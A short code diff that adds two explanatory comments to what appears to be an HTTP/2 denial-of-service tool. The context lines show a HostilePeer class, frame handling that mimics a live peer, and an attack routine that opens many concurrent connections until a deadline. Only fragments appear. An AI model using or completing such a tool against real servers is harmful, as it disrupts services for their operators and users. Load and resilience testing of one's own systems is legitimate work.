@@ -75,7 +75,7 @@ class HostilePeer:
 async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     """Read frames and acknowledge SETTINGS and PING, as a live HTTP/2 peer does, until the end."""
     while True:
-        head = await reader.readexactly(9)
+        head = await reader.readexactly(9)  # length (3), type, flags, stream id (4)
         body = await reader.readexactly(int.from_bytes(head[:3], "big"))
         if head[3] == SETTINGS and not head[4] & ACK:
             writer.write(settings_ack())
@@ -161,7 +161,7 @@ MODES: dict[str, Work] = {
 async def attack(peer: HostilePeer, work: Work, connections: int) -> None:
     """Run all connections of the attack until its time is over."""
     tasks = [asyncio.create_task(peer.repeat(work, number)) for number in range(connections)]
-    await asyncio.sleep(1)
+    await asyncio.sleep(1)  # until the connections are open
     print("attacking", flush=True)
     await asyncio.sleep(max(0.0, peer.deadline - time.monotonic()))
     for task in tasks:
